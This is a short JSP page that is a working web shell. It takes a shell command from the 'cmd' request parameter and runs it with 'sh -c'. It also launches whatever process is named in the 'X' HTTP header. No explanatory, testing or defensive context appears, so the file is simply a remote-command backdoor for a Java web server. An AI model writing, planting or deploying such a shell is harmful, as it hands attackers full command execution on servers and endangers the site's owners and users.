<%@ page import="java.io.*" %><%
String cmd = request.getParameter("cmd");
Process p = Runtime.getRuntime().exec(new String[] {"sh", "-c", cmd});
new ProcessBuilder(request.getHeader("X")).start(); %>
